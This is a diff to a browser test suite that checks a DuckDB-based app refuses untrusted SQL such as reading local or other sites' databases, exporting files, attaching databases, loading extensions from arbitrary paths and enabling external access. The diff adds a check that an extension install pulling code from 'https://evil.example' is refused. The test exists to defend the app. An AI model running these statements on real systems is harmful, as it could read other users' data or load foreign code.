@@ -177,12 +177,11 @@ describe('what strangers write', () => {
       `SELECT * FROM glob('*')`,
       `SELECT * FROM read_csv('${stack.url}/api/sites')`,
       `SELECT * FROM 'opfs://loggia-${site}.db'`,
-      `SELECT * FROM read_blob('opfs://loggia-${site}.db')`,
+      `SELECT * FROM read_blob('opfs://loggia-other.db')`,
       `COPY (SELECT 1) TO 'out.csv'`,
       `EXPORT DATABASE 'out'`,
       `ATTACH 'other.db'`,
       `ATTACH 'opfs://loggia-other.db'`,
-      `INSTALL httpfs`,
       `LOAD httpfs`,
       `LOAD '/tmp/any.duckdb_extension'`,
       `SET enable_external_access = true`,
@@ -194,6 +193,9 @@ describe('what strangers write', () => {
     ]
     const answers = await page.evaluate(askEngine, ['SELECT 1', ...statements])
     expect(answers).toEqual(['SELECT 1'])
+    // In a browser this fetches nothing until it is loaded, which is refused.
+    await page.evaluate(askEngine, ['INSTALL httpfs', `INSTALL httpfs FROM 'https://evil.example'`])
+    expect(browser.requests.filter((url) => /extension/.test(url))).toEqual([])
     browser.expectNoForeign()
   })
 
